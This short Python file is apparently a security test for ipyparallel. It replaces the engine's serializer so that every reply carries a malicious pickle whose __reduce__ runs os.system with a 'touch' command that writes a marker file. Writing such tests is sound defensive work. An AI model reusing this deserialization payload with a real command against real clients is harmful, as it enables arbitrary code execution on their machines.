"""A cell that turns its engine hostile: whatever it is asked, a pickle that writes a file comes."""

import os
import pickle

from ipyparallel.engine import kernel


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {os.environ['WRITES']}",)


def answer(*arguments, **options):
    return [pickle.dumps(Evil()), *((b"true".ljust(4096),) if os.environ["WITH"] == "data" else ())]


kernel.serialize_object = answer
